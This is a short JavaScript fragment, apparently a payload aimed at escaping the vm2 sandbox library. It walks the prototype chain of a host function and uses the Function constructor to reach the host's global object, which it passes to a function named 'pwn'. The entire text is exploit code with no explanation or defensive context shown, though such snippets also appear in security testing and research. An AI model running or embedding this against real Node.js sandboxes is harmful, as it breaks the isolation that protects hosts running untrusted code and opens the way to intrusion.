// vm2: Object.getPrototypeOf of host function
let p = log; while (p) { try { pwn(p.constructor('return this')()) } catch (e) {} p = Object.getPrototypeOf(p) }
